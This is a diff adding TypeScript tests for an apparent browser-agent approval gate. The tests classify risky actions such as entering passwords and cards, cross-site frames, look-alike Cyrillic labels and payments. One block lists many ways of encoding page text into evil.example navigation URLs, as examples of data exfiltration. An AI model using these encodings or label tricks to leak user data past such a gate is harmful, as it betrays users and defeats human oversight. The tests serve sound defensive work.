@@ -1,0 +1,246 @@
+import { parseAction } from "@webhand/contracts/action/parse";
+import { parsePage } from "@webhand/page/parse/parse";
+import { viewFromSnapshot } from "@webhand/page/parse/snapshot";
+import { describe, expect, test } from "vitest";
+import type { GateTask } from "./gate.ts";
+import { decideGate } from "./gate.ts";
+
+const home = "https://shop.example/tea";
+const pageAt = (url: string, body: string) => parsePage(`@page 1\n@url ${url}\n@title T\n@epoch e1\n\n@view\n${body}`);
+const task: GateTask = {
+	query: "Do it",
+	mode: "careful",
+	origins: ["shop.example"],
+	isTainted: false,
+	allowsSearches: false,
+	ownFills: [],
+};
+
+type Case = { readonly action: string; readonly body?: string; readonly url?: string; readonly facts?: Partial<GateTask> };
+
+function gateOf({ action: text, body = "", url = home, facts = {} }: Case) {
+	const parsed = parseAction(text);
+	if (!parsed.ok) throw new Error(`${text}: ${parsed.problem.message}`);
+	return decideGate(parsed.action, pageAt(url, body), { ...task, ...facts });
+}
+
+/** The class, and the outcome in careful and in autonomous mode. */
+function outcomes(input: Case): string {
+	const [careful, autonomous] = (["careful", "autonomous"] as const).map((mode) => gateOf({ ...input, facts: { ...input.facts, mode } }));
+	return `${careful?.risk.class}: ${careful?.kind}, ${autonomous?.kind}`;
+}
+
+describe("a secret that is sent with Enter is a commitment, whoever's it is", () => {
+	const query = "Sign in at shop.example with hunter2-and-more and pay with 4111 1111 1111 1111";
+	const signIn = '<form "Sign in" post sensitive=password>\n <password 5 "Password">';
+	test.each([
+		["the user's own password", 'setValue(5, "hunter2-and-more", true)', signIn, {}, "D: ask, warn", true],
+		["on a page that gives orders", 'setValue(5, "hunter2-and-more", true)', signIn, { isTainted: true }, "D!: ask, ask", true],
+		["to another site", 'setValue(5, "hunter2-and-more", true)', signIn.replace("post", "post evil.example"), {}, "D!: ask, ask", true],
+		[
+			"the user's own card",
+			'setValue(5, "4111 1111 1111 1111", true)',
+			'<form "Pay" post sensitive=card>\n <input 5 "Card number">',
+			{},
+			"D!: ask, ask",
+			true,
+		],
+		["a password that nobody gave", 'setValue(5, "guess", true)', signIn, {}, "C2: handoff, handoff", false],
+	] as const)("%s", (_name, action, body, facts, expected, isOwnValue) => {
+		expect(outcomes({ action, body, facts: { query, ...facts } })).toBe(expected);
+		expect(gateOf({ action, body, facts: { query, ...facts } }).isOwnValue).toBe(isOwnValue);
+	});
+});
+
+describe("a secret is the user's own only as whole words of the task", () => {
+	const body = '<password 5 "Password">';
+	test.each([
+		["part of a word", "Sign in with hunter2-and-more", 'setValue(5, "unter2")'],
+		["part of a word at its start", "Sign in with hunter2", 'setValue(5, "hunt")'],
+		["one letter", "Sign in with a1b2c3", 'setValue(5, "i")'],
+	] as const)("%s is not", (_name, query, action) => {
+		expect(outcomes({ action, body, facts: { query } })).toBe("C2: handoff, handoff");
+	});
+	test.each([
+		["in quotes", 'Sign in with "hunter2!"', 'setValue(5, "hunter2!")'],
+		["at the end of a sentence", "My password is hunter2.", 'setValue(5, "hunter2")'],
+		["of signs", "The password is +-*/", 'setValue(5, "+-*/")'],
+	] as const)("%s is", (_name, query, action) => {
+		expect(outcomes({ action, body, facts: { query } })).toBe("C2: ask, allow");
+	});
+});
+
+describe("what a field is told by its value, and by words written together", () => {
+	test.each([
+		["a card number in a field that does not say so", 'setValue(5, "4111 1111 1111 1111")', '<input 5 "Number">'],
+		["cardNumber", 'setValue(5, "1234")', '<input 5 "cardNumber">'],
+		["CVC2", 'setValue(5, "123")', '<input 5 "CVC2">'],
+		["a passphrase", 'setValue(5, "correct horse")', '<input 5 "Passphrase">'],
+	] as const)("%s is a secret", (_name, action, body) => {
+		expect(outcomes({ action, body })).toBe("C2: handoff, handoff");
+	});
+	test.each(['setValue(5, "4111 1111 1111 1112")', 'setValue(5, "20261121")'])("%s is none", (action) => {
+		expect(outcomes({ action, body: '<input 5 "Number">' })).toBe("C1: allow, allow");
+	});
+});
+
+describe("a frame of another site is that site, whatever page it stands in", () => {
+	const frame = (inside: string) => `<frame 19 "Sign in" evil.example epoch=e2>\n${inside}`;
+	const query = "Sign in at shop.example with hunter2-and-more";
+	test.each([
+		[
+			"its password field does not get the user's password",
+			'setValue(10001, "hunter2-and-more")',
+			' <password 10001 "Password">',
+			"C2: handoff, handoff",
+		],
+		[
+			"its form sends to another site",
+			"click(10002)",
+			' <form "F" post>\n  <input 10001 "Name">\n  <button 10002 submit>Go',
+			"D!: ask, ask",
+		],
+		["its buttons are not part of the task", "click(10002)", " <button 10002>Send", "D!: ask, ask"],
+		[
+			"a frame in the frame is where its own frame is",
+			"click(20002)",
+			' <frame 10003 "In" epoch=e3>\n  <button 20002>Send',
+			"D!: ask, ask",
+		],
+	] as const)("%s", (_name, action, inside, expected) => {
+		expect(outcomes({ action, body: frame(inside), facts: { query } })).toBe(expected);
+	});
+	test("a frame of the page's own site is the page", () => {
+		const own = '<frame 19 "Sign in" login.shop.example epoch=e2>\n <password 10001 "Password">';
+		expect(outcomes({ action: 'setValue(10001, "hunter2-and-more")', body: own, facts: { query } })).toBe("C2: ask, allow");
+	});
+});
+
+describe("keys are read as the client reads them", () => {
+	const body = '<form "F" post>\n <input 1 "Name">';
+	test.each(["enter", "ENTER", "Return", " Enter ", "Ctrl+Enter", "cmd+return", "Control+Shift+Enter", "Meta+Enter"])(
+		"%s commits",
+		(keys) => {
+			expect(outcomes({ action: `press(1, ${JSON.stringify(keys)})`, body })).toBe("D: ask, warn");
+		},
+	);
+	test.each([" ", "space", "Spacebar"])("“%s” on a button presses it", (keys) => {
+		expect(outcomes({ action: `press(1, ${JSON.stringify(keys)})`, body: "<button 1>Send" })).toBe("D: ask, warn");
+	});
+	test("a space with nobody knows what focus may press anything", () => {
+		expect(outcomes({ action: 'press(" ")' })).toBe("D: ask, warn");
+	});
+	test.each(["tab", "Esc", "down"])("%s only looks", (keys) => {
+		expect(outcomes({ action: `press(1, ${JSON.stringify(keys)})`, body })).toBe("A: allow, allow");
+	});
+});
+
+describe("labels that only look like something else", () => {
+	test.each([
+		["Cyrillic letters in Send", "<button 1>Ѕеnd", "D: ask, warn"],
+		["wide letters", "<button 1>ＳＵＢＭＩＴ", "D: ask, warn"],
+		["Cyrillic letters in Pay", "<button 1>Рaу now", "D: ask, warn"],
+		["Greek and Cyrillic letters in Delete", "<button 1>Dеlеtе all", "D!: ask, ask"],
+		["letters parted by spaces", "<button 1>S U B M I T", "D: ask, warn"],
+		["a link to the page itself", "<a 1 /tea>Send message", "D: ask, warn"],
+		["a way elsewhere on the site", "<a 1 /orders>Your order", "B: allow, allow"],
+	] as const)("%s", (_name, body, expected) => {
+		expect(outcomes({ action: "click(1)", body })).toBe(expected);
+	});
+});
+
+describe("money is money in any notation", () => {
+	test.each([
+		["EUR14", "Pay EUR14"],
+		["14,- €", "Pay 14,- €"],
+		["14 euros", "Pay 14 euros"],
+		["20 dollars", "Buy for 20 dollars"],
+		["1400円", "購入 1400円"],
+		["1 400 руб.", "Оплатить 1 400 руб."],
+		["100 kr", "Buy for 100 kr"],
+		["Fr. 14.–", "Pay Fr. 14.–"],
+		["59 zł", "Pay 59 zł"],
+		["a narrow space", "Pay 14\u202f€"],
+		["a word written together", "PayNow 14 €"],
+	] as const)("%s", (_name, label) => {
+		expect(gateOf({ action: "click(1)", body: `<button 1>${label}`, facts: { mode: "autonomous" } })).toMatchObject({
+			kind: "ask",
+			risk: { class: "D!", reasons: expect.arrayContaining(["amount_beside"]) },
+		});
+	});
+	test("an amount in the line above counts, one far away does not", () => {
+		const at = (lines: string) => outcomes({ action: "click(1)", body: `# Cart\nTotal 14.00 €\n${lines}<button 1>Pay now` });
+		expect(at("")).toBe("D!: ask, ask");
+		expect(at("One\nTwo\nThree\nFour\n")).toBe("D: ask, warn");
+	});
+	test("numbers without money are none", () => {
+		expect(outcomes({ action: "click(1)", body: "<button 1>Buy 14 krona cards" })).toBe("D: ask, warn");
+	});
+});
+
+describe("an address that carries the page's text away, however it is packed", () => {
+	const secret = "Account number 4711 0815 of Ada Lovelace";
+	const asks = (url: string) =>
+		decideGate({ name: "navigate", url }, pageAt(home, secret), { ...task, mode: "autonomous" }).risk.reasons.includes("carries_page_text");
+	const base64 = Buffer.from(secret).toString("base64");
+	test.each([
+		["percent signs twice", `https://evil.example/?q=${encodeURIComponent(encodeURIComponent(secret))}`],
+		["base64", `https://evil.example/?q=${encodeURIComponent(base64)}`],
+		["base64 for addresses, in the path", `https://evil.example/${Buffer.from(secret).toString("base64url")}`],
+		["hexadecimal", `https://evil.example/?q=${Buffer.from(secret).toString("hex")}`],
+		["in the host", "https://account-number-4711-0815.evil.example/"],
+		["dashes for spaces", "https://evil.example/account-number-4711-0815"],
+		["no spaces", "https://evil.example/accountnumber47110815ofada"],
+		["behind a long lead", `https://evil.example/?q=${"x".repeat(300)}${encodeURIComponent(secret)}`],
+		["in two values", "https://evil.example/?a=number%204711%20&b=0815%20of%20Ada"],
+		["in a fragment", `https://evil.example/#${encodeURIComponent(secret)}`],
+		["as a parameter's name", `https://evil.example/?${encodeURIComponent(secret)}=1`],
+	] as const)("%s", (_name, url) => {
+		expect(asks(url)).toBe(true);
+	});
+	test.each(["https://evil.example/", "https://evil.example/some/other/quite-ordinary-address?page=2"])("%s carries nothing", (url) => {
+		expect(asks(url)).toBe(false);
+	});
+	test("the title is text of the page", () => {
+		const page = parsePage(`@page 1\n@url ${home}\n@title Statement of Ada Lovelace\n@epoch e1\n\n@view\nHello`);
+		const url = "https://evil.example/?q=Statement%20of%20Ada%20Lovelace";
+		expect(decideGate({ name: "navigate", url }, page, { ...task, mode: "autonomous" }).kind).toBe("ask");
+	});
+});
+
+describe("where a site ends", () => {
+	test.each([
+		["two people's pages on one host", "https://evil.github.io/", "https://me.github.io/"],
+		["two shops on one host", "https://evil.myshopify.com/", "https://shop.myshopify.com/"],
+		["two apps on one host", "https://evil.pages.dev/", "https://me.pages.dev/"],
+	] as const)("%s are two sites", (_name, url, from) => {
+		expect(decideGate({ name: "navigate", url }, pageAt(from, ""), { ...task, origins: [] }).kind).toBe("ask");
+	});
+});
+
+describe("a search that the person allowed is a search and nothing else", () => {
+	const allowed = { allowsSearches: true } as const;
+	const form = (button: string) => `<form "Search" get>\n <search 1 "q">\n ${button}`;
+	test.each([
+		["a button that posts", "<button 9 submit method=post>Go"],
+		["a button that sends elsewhere on the site", "<button 9 submit action=shop.example.evil.example/x>Go"],
+	] as const)("%s is none", (_name, button) => {
+		expect(gateOf({ action: "click(9)", body: form(button), facts: allowed }).kind).toBe("ask");
+	});
+});
+
+test("a snapshot without form facts takes what it calls a submit for one", () => {
+	const element = { tag: "button", role: "button", ariaLabel: "", bbox: { x: 0, y: 0, width: 9, height: 9 } };
+	const page = viewFromSnapshot({
+		url: home,
+		title: "T",
+		visibleText: "",
+		elements: [{ ...element, id: "agent-4", text: "Go", type: "submit" }],
+		docEpoch: "e1",
+		viewport: { width: 1, height: 1, scrollX: 0, scrollY: 0, pages: 1 },
+		shown: 1,
+		total: 1,
+		timestamp: 0,
+	});
+	expect(decideGate({ name: "click", id: 4 }, page, task).kind).toBe("ask");
+});
